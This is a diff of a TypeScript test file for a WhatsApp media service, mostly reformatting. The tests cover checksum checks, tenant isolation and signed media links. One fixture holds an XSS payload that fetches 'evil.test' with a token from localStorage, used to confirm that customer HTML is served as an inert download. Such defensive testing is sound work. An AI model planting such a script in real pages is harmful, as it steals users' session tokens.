@@ -6,7 +6,7 @@ import { and, eq } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { mediaRoot } from './storeInboundMedia.js';
 import { signMediaUrl } from './signedMediaUrl.js';
-import { DATABASE_KINDS } from '../../../testing/testDatabases.js';
+import { DATABASE_KINDS } from '#server/testing/testDatabases.js';
 import { contact, envelope, inbound } from '../fixtures/webhookFixtures.js';
 import { startWhatsAppKit, type WhatsAppKit } from '../fixtures/whatsappTestKit.js';
 
@@ -22,12 +22,16 @@ describe.each(DATABASE_KINDS)('inbound media on %s', (kind) => {
     await kit.deliver(envelope(phoneNumberId, { contacts: [contact(from)], messages: [message] }));
     await kit.settle();
     const { messages } = kit.server.app.db.t;
-    const [row] = await kit.server.app.db.tenant(clientId, (tx) => tx.select().from(messages)
-      .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))));
+    const [row] = await kit.server.app.db.tenant(clientId, (tx) =>
+      tx
+        .select()
+        .from(messages)
+        .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))),
+    );
     return row!;
   }
 
-  it('downloads with the client\'s token, verifies the checksum, stores it owner-only and serves it to the client\'s users only', async () => {
+  it("downloads with the client's token, verifies the checksum, stores it owner-only and serves it to the client's users only", async () => {
     const client = await kit.newClient();
     const other = await kit.newClient();
     const bytes = Buffer.from(Array.from({ length: 4096 }, (_, index) => index % 251));
@@ -75,10 +79,14 @@ describe.each(DATABASE_KINDS)('inbound media on %s', (kind) => {
     expect(row.mediaUrl).toBe(`/media/${row.id}`);
   });
 
-  it('records, without storing, a file whose checksum does not match or that is over its type\'s limit', async () => {
+  it("records, without storing, a file whose checksum does not match or that is over its type's limit", async () => {
     const client = await kit.newClient();
     const tampered = kit.graph.addMedia(`bad-${client.id}`, Buffer.from('real bytes'), 'image/jpeg');
-    const wrong = await receive(client.id, client.phoneNumberId, inbound.image('5511970000003', { ...tampered, sha256: Buffer.alloc(32, 7).toString('base64') }));
+    const wrong = await receive(
+      client.id,
+      client.phoneNumberId,
+      inbound.image('5511970000003', { ...tampered, sha256: Buffer.alloc(32, 7).toString('base64') }),
+    );
     expect(wrong.mediaUrl).toBeNull();
     expect(wrong.metadata.media).toMatchObject({ error: expect.stringContaining('does not match the sha256') });
 
@@ -102,12 +110,16 @@ describe.each(DATABASE_KINDS)('media links and served types on %s', (kind) => {
     await kit.deliver(envelope(phoneNumberId, { contacts: [contact(String(message.from))], messages: [message] }));
     await kit.settle();
     const { messages } = kit.server.app.db.t;
-    const [row] = await kit.server.app.db.tenant(clientId, (tx) => tx.select().from(messages)
-      .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))));
+    const [row] = await kit.server.app.db.tenant(clientId, (tx) =>
+      tx
+        .select()
+        .from(messages)
+        .where(and(eq(messages.clientId, clientId), eq(messages.wamid, String(message.id)))),
+    );
     return row!;
   }
 
-  it('serves a customer\'s HTML document and SVG image as inert downloads, never inline', async () => {
+  it("serves a customer's HTML document and SVG image as inert downloads, never inline", async () => {
     const client = await kit.newClient();
     const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
     const script = '<html><script>fetch("https://evil.test/?t="+localStorage.getItem("token"))</script></html>';
@@ -138,8 +150,16 @@ describe.each(DATABASE_KINDS)('media links and served types on %s', (kind) => {
     const other = await kit.newClient();
     const viewer = await kit.server.signIn({ clientId: client.id, role: 'viewer' });
     const outsider = await kit.server.signIn({ clientId: other.id, role: 'owner' });
-    const mine = await receive(client.id, client.phoneNumberId, inbound.image('5511970000031', kit.graph.addMedia(`own-${client.id}`, Buffer.alloc(300, 1), 'image/png')));
-    const theirs = await receive(other.id, other.phoneNumberId, inbound.image('5511970000032', kit.graph.addMedia(`their-${other.id}`, Buffer.alloc(300, 2), 'image/png')));
+    const mine = await receive(
+      client.id,
+      client.phoneNumberId,
+      inbound.image('5511970000031', kit.graph.addMedia(`own-${client.id}`, Buffer.alloc(300, 1), 'image/png')),
+    );
+    const theirs = await receive(
+      other.id,
+      other.phoneNumberId,
+      inbound.image('5511970000032', kit.graph.addMedia(`their-${other.id}`, Buffer.alloc(300, 2), 'image/png')),
+    );
 
     const link = await viewer.caller.whatsapp.mediaLink({ messageId: mine.id });
     expect(link.url).toMatch(new RegExp(`^/media/${mine.id}\\?exp=\\d+&sig=[\\w-]+$`));
